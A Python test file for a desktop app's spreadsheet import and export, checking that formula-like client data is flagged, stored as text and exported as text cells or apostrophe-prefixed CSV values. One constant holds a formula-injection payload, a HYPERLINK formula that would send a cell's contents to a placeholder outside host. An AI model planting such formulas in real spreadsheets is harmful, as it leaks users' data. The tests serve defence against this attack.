"""Formula injection (issue 16, item 7): text starting with = + - @ is stored as text, the dry run
warns, and the export writes it as a text cell (never a formula) next to the ID-number column."""

from __future__ import annotations

from pathlib import Path

import openpyxl
from sqlalchemy import select

from desktop.domain.sheets.values import csv_text, looks_like_formula
from desktop.models import Client
from desktop.services.context import ServiceContext
from desktop.services.sheets.export import export_list
from desktop.services.sheets.importer import import_sheet

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&D5,"点击查看")'


def _text_cells_workbook(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "诊断"])
    sheet.append(["=1+2", HYPERLINK])
    sheet.append(["@SUM(A1)", "+正常"])
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s"  # typed as text in Excel: the value is the formula's source
    workbook.save(path)
    return path


def test_formula_like_text_is_warned_in_the_dry_run_and_stored_as_text(ctx: ServiceContext, tmp_path: Path) -> None:
    path = _text_cells_workbook(tmp_path / "in.xlsx")
    dry = import_sheet(ctx, path, "clients", dry_run=True)
    warned = {(n.row, n.field) for n in dry.notices if n.code == "sheet.formula_text"}
    assert {(2, "name"), (2, "diagnosis"), (3, "name"), (3, "diagnosis")} <= warned
    import_sheet(ctx, path, "clients")
    with ctx.db.read() as session:
        stored = {c.name: c.diagnosis for c in session.scalars(select(Client))}
    assert stored["=1+2"] == HYPERLINK and stored["@SUM(A1)"] == "+正常"


def test_export_writes_formula_like_text_as_text_cells(ctx: ServiceContext, tmp_path: Path) -> None:
    import_sheet(ctx, _text_cells_workbook(tmp_path / "in.xlsx"), "clients")
    out = tmp_path / "out.xlsx"
    export_list(ctx, "clients", out)
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows(min_row=4) for cell in row if looks_like_formula(cell.value)]
    assert {c.value for c in cells} >= {"=1+2", "@SUM(A1)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert b"<f>" not in _sheet_xml(out)


def _sheet_xml(path: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_csv_text_gets_a_leading_apostrophe() -> None:
    assert [csv_text(t) for t in ("=1+2", "+1", "-1", "@x", "\tx", "\rx", "正常")] == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "正常",
    ]
